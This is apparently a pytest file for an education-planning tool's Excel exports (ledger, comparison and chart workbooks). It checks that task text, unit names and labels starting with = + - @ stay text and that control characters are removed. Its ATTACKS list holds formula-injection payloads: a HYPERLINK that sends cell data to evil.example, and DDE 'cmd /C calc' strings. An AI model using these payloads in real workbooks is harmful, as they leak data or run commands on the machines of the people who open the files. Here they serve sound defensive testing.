"""Text written into every xlsx eduplan makes stays text: no formula from a task, a unit name or a
narrative beginning with = + - @ (issue 13, formula injection), and no control character breaks a
workbook (the 台账 export failed for everyone with one in a narrative)."""

from __future__ import annotations

import copy
import dataclasses
import io
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from eduplan.db.engine import SessionFactory
from eduplan.domain import Plan, Task
from eduplan.export.compare_xlsx import write_comparison
from eduplan.export.docx_chart import chart_xml
from eduplan.export.ledger import write_ledger
from eduplan.samples.compare_plans import import_compare_plans
from eduplan.services import compare
from eduplan.services.compare import Selection

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def formulas(data: bytes | Path) -> list[tuple[str, Any]]:
    book = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    return [
        (cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def values(path: Path) -> set[Any]:
    book = load_workbook(path)
    return {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}


def test_ledger_writes_formula_like_task_text_and_units_as_text(plan: Plan, tmp_path: Path) -> None:
    tasks = [item for _, item in plan.tasks() if isinstance(item, Task)]
    for task, attack in zip(tasks, ATTACKS, strict=False):
        task.title, task.text = attack, attack + "\x07，按期完成"
        task.units, task.lead_units, task.support_units = [attack], [], []
    plan.title = "=1+2 工作要点"
    path = write_ledger(plan, tmp_path / "台账.xlsx")
    assert formulas(path) == []
    written = values(path)
    used = ATTACKS[: len(tasks)]
    assert len(used) >= 3
    assert {attack + "，按期完成" for attack in used} <= written  # 主要内容, \x07 removed
    assert set(used) <= written  # 责任单位
    assert str(load_workbook(path).active["A1"].value).startswith("=1+2 工作要点")


def test_comparison_workbook_writes_formula_like_text_as_text(
    sessions: SessionFactory, tmp_path: Path
) -> None:
    import_compare_plans(sessions)
    report = copy.deepcopy(compare.report(sessions, Selection()))  # the service keeps its reports
    entries = [e for cell in report.cells for column in cell.columns for e in column.entries]
    for entry, attack in zip(entries, ATTACKS * 3, strict=False):
        entry.title, entry.text = attack, attack
    report.matrix.rows[0].plan = dataclasses.replace(report.matrix.rows[0].plan, label="=1+1")
    path = write_comparison(report, tmp_path / "对标.xlsx")
    assert formulas(path) == []
    assert set(ATTACKS) <= values(path) | {"\r=1+1"}  # openpyxl reads a lone CR back as LF
    assert "=1+1" in values(path)


def test_chart_workbook_of_the_bulletin_keeps_labels_as_text() -> None:
    _, workbook = chart_xml(["=1+1", "@SUM(A1)", "基础教育科\x01"], {"+报送率": [50.0, 60.0, 70.0]}, "=标题")
    assert formulas(workbook) == []
    sheet = load_workbook(io.BytesIO(workbook)).active
    assert [c.value for c in sheet["A"]][1:] == ["=1+1", "@SUM(A1)", "基础教育科"]
    assert sheet["B1"].value == "+报送率"
